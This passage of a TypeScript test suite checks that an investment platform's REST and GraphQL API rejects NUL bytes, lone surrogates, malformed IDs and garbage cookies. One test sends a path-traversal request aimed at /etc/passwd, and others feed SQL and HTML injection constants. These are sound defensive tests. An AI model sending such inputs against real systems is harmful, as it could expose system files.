    async function expectGqlBadInput(client: ApiClient, query: string, variables?: Record<string, unknown>, status = 400) {
      const before = await snapshot();
      const res = await client.gql(query, variables);
      expectGqlError(res, 'BAD_USER_INPUT');
      expect(res.status).toBe(status);
      expect(res.data ?? null).toBeNull();
      expect(await snapshot()).toEqual(before);
      return res;
    }

    it('refuses NUL and lone surrogates on the REST paths the issue names (withdrawal, deposit reference, plan id, ...) and in query strings', async () => {
      const me = investor.client;
      for (const text of [NUL, LONE_SURROGATE]) {
        const posts: Array<[string, Record<string, unknown>]> = [
          ['/api/insert/new_withdrawal', { coin_name: text, network: 'BTC', wallet_address: 'bc1qcr8te4kr609gcawutmrza0j4xv80jy8z306fyu', amount: '10' }],
          ['/api/insert/new_withdrawal', { coin_name: 'BTC', network: 'BTC', wallet_address: text, amount: '10' }],
          ['/api/insert/deposit_wallet', { wallet: text }],
          ['/api/update/deposit_track', { reference_id: text, amount: '10', wallet_address: 'x' }],
          ['/api/delete/delete-transaction', { reference_id: text }],
          ['/api/fetch/plan_eligibility', { uniqId: text }],
          ['/api/update/plan_selected', { planId: text, amount: '100' }],
        ];
        for (const [path, body] of posts) {
          const res = await expectRefusedAndUnchanged(() => me.post(path, body), 400);
          expect(res.body.code).toBe('BAD_USER_INPUT');
          expect(res.body.message).toMatch(INVALID_TEXT);
        }
      }
      for (const path of [
        '/api/fetch/deposit_reference?reference_id=a%00b',
        '/api/fetch/check_deposit_eligibility?reference_id=%00',
        '/api/fetch/fetch_instant_trasaction?transactionid=%00',
        '/api/fetch/deposit_reference?reference_id=%ED%A0%80',
        '/api/site_content?lang=%00',
        '/api/fetch/all_transactions?x=%00',
      ]) {
        const res = await expectRefusedAndUnchanged(() => me.get(path));
        // an undecodable escape (%ED%A0%80) is kept as written and is then only an unknown reference
        if (!path.includes('%ED')) {
          expect(res.status).toBe(400);
          expect(res.body.message).toMatch(INVALID_TEXT);
        }
      }
    });

    it('refuses NUL in a multipart text field (REST deposit submission) and stores nothing', async () => {
      const form = new FormData();
      form.set('reference_id', NUL);
      form.set('tnx_id', 'abc');
      form.set(
        'screenshot_file',
        new Blob(
          [
            await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
              .png()
              .toBuffer(),
          ],
          { type: 'image/png' },
        ),
        'a.png',
      );
      const res = await expectRefusedAndUnchanged(() => investor.client.post('/api/insert/new_deposit', form), 400);
      expect(res.body).toMatchObject({ code: 'BAD_USER_INPUT' });
      expect(res.body.message).toMatch(INVALID_TEXT);
    });

    it('refuses NUL and lone surrogates in GraphQL variables on the paths the issue names', async () => {
      const me = investor.client;
      for (const text of [NUL, LONE_SURROGATE]) {
        for (const [query, variables] of [
          [
            `mutation($i: RequestWithdrawalInput!) { requestWithdrawal(input: $i) { id } }`,
            { i: { coinName: text, walletAddress: 'bc1qcr8te4kr609gcawutmrza0j4xv80jy8z306fyu', amount: '10' } },
          ],
          [`mutation($w: String!) { startDeposit(wallet: $w) { referenceId } }`, { w: text }],
          [`query($r: String!) { depositDraft(referenceId: $r) { referenceId } }`, { r: text }],
          [`mutation($r: String!) { cancelDeposit(referenceId: $r) }`, { r: text }],
          [`mutation($u: String!) { selectPlan(uniqId: $u) { uniqId } }`, { u: text }],
          [`query($s: String) { transactions(search: $s) { totalCount } }`, { s: text }],
        ] as Array<[string, Record<string, unknown>]>) {
          const res = await expectGqlBadInput(me, query, variables);
          expect(res.errors![0].message).toMatch(INVALID_TEXT);
        }
      }
    });

    it('refuses NUL and lone surrogates written inline in the GraphQL query, over POST and GET', async () => {
      for (const literal of ['a\\u0000b', '\\u{0}', 'x\\u{000}y']) {
        const res = await expectGqlBadInput(investor.client, `{ transactions(search: "${literal}") { totalCount } }`);
        expect(res.errors![0].message).toMatch(INVALID_TEXT);
      }
      // graphql-js itself refuses a lone surrogate escape as a syntax error
      for (const literal of ['\\uD800', '\\uDC00x']) {
        const res = await investor.client.gql(`{ transactions(search: "${literal}") { totalCount } }`);
        expectGqlError(res, 'GRAPHQL_PARSE_FAILED');
        expect(res.status).toBe(400);
      }
      // a surrogate pair written as two escapes is one valid character
      const pair = await investor.client.gql(`{ transactions(search: "\\uD83D\\uDE00") { totalCount } }`);
      expect(pair.errors).toBeUndefined();
      for (const path of [
        `/graphql?query=${q('query($s: String) { transactions(search: $s) { totalCount } }')}&variables=${q(JSON.stringify({ s: NUL }))}`,
        `/graphql?query=${q('{ transactions(search: "\\u0000") { totalCount } }')}`,
      ]) {
        const res = await investor.client.raw(path, { headers: { 'apollo-require-preflight': 'true' } });
        expect(res.status).toBe(400);
        const body = (await res.json()) as { errors: Array<{ message: string; extensions: { code: string } }> };
        expect(body.errors[0]).toMatchObject({ extensions: { code: 'BAD_USER_INPUT' }, message: expect.stringMatching(INVALID_TEXT) });
      }
    });

    it('refuses NUL in a GraphQL multipart request and stores nothing', async () => {
      const { client, user } = await createInvestor(t);
      const form = new FormData();
      form.set(
        'operations',
        JSON.stringify({ query: 'mutation($a: Upload!, $n: String) { uploadAvatar(avatar: $a) { avatar } }', variables: { a: null, n: NUL } }),
      );
      form.set('map', JSON.stringify({ '0': ['variables.a'] }));
      form.set(
        '0',
        new Blob(
          [
            await sharp({ create: { width: 16, height: 16, channels: 3, background: '#0f0' } })
              .png()
              .toBuffer(),
          ],
          { type: 'image/png' },
        ),
        'a.png',
      );
      const res = await client.raw('/graphql', { method: 'POST', body: form, headers: { 'apollo-require-preflight': 'true' } });
      expect(res.status).toBe(400);
      const body = (await res.json()) as { errors: Array<{ extensions: { code: string } }> };
      expect(body.errors[0].extensions.code).toBe('BAD_USER_INPUT');
      expect((await t.db.query(`SELECT avatar FROM users WHERE id = $1`, [user.id])).rows[0].avatar).toBeNull();
    });

    it("refuses malformed ids (36 dashes and others) with 400 on every id-taking path, and answers 404 for a well-formed id that is nobody's", async () => {
      for (const id of BAD_IDS) {
        const rest = await expectRefusedAndUnchanged(() => investor.client.get(`/api/fetch/fetch_instant_trasaction?transactionid=${q(id)}`), 400);
        expect(rest.body.code).toBe('BAD_USER_INPUT');
        for (const [client, query, variables] of [
          [investor.client, `query($id: ID!) { transaction(id: $id) { id } }`, { id }],
          [investor.client, `mutation($id: ID!) { endSession(id: $id) }`, { id }],
          [investor.client, `query($a: String) { myActivity(after: $a) { id } }`, { a: id }],
          [admin, `mutation($id: ID!) { approveDeposit(transactionId: $id) { id } }`, { id }],
          [admin, `mutation($id: ID!) { rejectDeposit(transactionId: $id, reason: "No payment arrived.") { id } }`, { id }],
          [admin, `mutation($id: ID!) { approveWithdrawal(transactionId: $id) { id } }`, { id }],
          [admin, `mutation($id: ID!) { rejectWithdrawal(transactionId: $id, reason: "Address is wrong.") { id } }`, { id }],
          [admin, `mutation($id: ID!) { approveKyc(userId: $id) { id } }`, { id }],
          [admin, `mutation($id: ID!) { rejectKyc(userId: $id, reason: "Blurry photo.") { id } }`, { id }],
        ] as Array<[ApiClient, string, Record<string, unknown>]>) {
          // a NUL is refused at the edge (400); other malformed ids by the resolver (a GraphQL error)
          await expectGqlBadInput(client, query, variables, id.includes('\u0000') ? 400 : 200);
        }
      }
      expectRestError(await investor.client.get(`/api/fetch/fetch_instant_trasaction?transactionid=${NOBODYS_ID}`), 404);
      for (const [client, query] of [
        [investor.client, `query($id: ID!) { transaction(id: $id) { id } }`],
        [admin, `mutation($id: ID!) { approveDeposit(transactionId: $id) { id } }`],
        [admin, `mutation($id: ID!) { approveWithdrawal(transactionId: $id) { id } }`],
      ] as Array<[ApiClient, string]>) {
        expectGqlError(await client.gql(query, { id: NOBODYS_ID }), 'NOT_FOUND');
      }
    });

    it('refuses malformed cursors with 400 (history, admin lists, activity)', async () => {
      for (const after of BAD_CURSORS) {
        for (const [client, query] of [
          [investor.client, `query($a: String) { transactions(first: 2, after: $a) { totalCount } }`],
          [admin, `query($a: String) { adminDeposits(first: 2, after: $a) { totalCount } }`],
          [admin, `query($a: String) { adminWithdrawals(first: 2, after: $a) { totalCount } }`],
          [investor.client, `query($a: String) { myActivity(after: $a) { id } }`],
        ] as Array<[ApiClient, string]>) {
          await expectGqlBadInput(client, query, { a: after }, 200);
        }
      }
    });

    it("maps Postgres's own invalid-value errors to BAD_USER_INPUT with a safe message (the last line behind the edge)", async () => {
      const { toDomainError } = await import('../src/common/errors/to-domain-error');
      for (const [sql, params, state] of [
        [`SELECT $1::uuid`, ['-'.repeat(36)], '22P02'],
        [`SELECT $1::text`, ['a\u0000b'], '22021'],
        [`SELECT convert_from('\\xff'::bytea, 'UTF8')`, [], '22021'],
        [`SELECT $1::date`, ['not a date'], '22007'],
        [`SELECT $1::timestamptz`, ['2020-13-45 99:99'], '22008'],
        [`SELECT $1::numeric(5, 2)`, ['1e10'], '22003'],
      ] as Array<[string, unknown[], string]>) {
        const error = await t.db.query(sql, params).then(
          () => undefined,
          (e: unknown) => e,
        );
        expect((error as { code?: string })?.code).toBe(state);
        const domain = toDomainError(error);
        expect({ kind: domain.kind, message: domain.message }).toEqual({ kind: 'BAD_USER_INPUT', message: 'A value in the request is not valid.' });
      }
    });
  });

  describe('public GET endpoints', () => {
    it.each([
      'lang[]=ar',
      'lang[a]=b',
      'lang=ar&lang=fr',
      `lang=${encodeURIComponent(SQL)}`,
      `lang=${encodeURIComponent(HTML)}`,
      'lang=%E0%A4%A',
      `lang=${'x'.repeat(5000)}`,
      'lang',
      'unknown=1',
    ])('site_content?%s answers 200 with English content, never an error', async (query) => {
      const before = await snapshot();
      const res = await anonymous.get<{ locale: string; faq: unknown[] }>(`/api/site_content?${query}`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/application\/json/);
      expect(res.body.locale).toBe('en');
      expect(res.body.faq.length).toBeGreaterThan(0);
      expect(await snapshot()).toEqual(before);
    });

    it('session answers 200 {authenticated:false} to garbage cookies and query strings', async () => {
      for (const cookie of ['sid=', 'sid=%', `sid=${'A'.repeat(4000)}`, `sid=s%3A${SQL}`, 'sid=s%3Aabc.def; sid=s%3Aghi.jkl']) {
        // a client without a cookie jar of its own, so the header goes out as written
        const res = await t.client().raw(`/api/session?x=${encodeURIComponent(HTML)}`, { headers: { cookie } });
        expect(res.status).toBe(200);
        expect(await res.json()).toEqual({ authenticated: false });
      }
    });
  });

  describe('unknown paths', () => {
    it.each([
      ['GET', '/api/nope'],
      ['POST', '/api/nope'],
      ['GET', '/api/nope/deeper?x=1'],
      ['GET', '/api/nope/..%2F..%2Fetc%2Fpasswd'],
      ['GET', '/api/update/profile'],
    ])('%s %s answers a JSON 404', async (method, path) => {
      const res = method === 'GET' ? await anonymous.get(path) : await anonymous.post(path, {});
      expectRestError(res, 404);
      expect(res.body).toEqual({ status: 'error', message: 'Not found.', code: 'NOT_FOUND' });
    });

    it("does not answer with the framework's own messages", async () => {
      const res = await anonymous.get('/api/nope');
      expectSafeMessage(res.body.message);
      expect(res.body.message).not.toMatch(/Cannot (GET|POST)/);
    });
  });
});
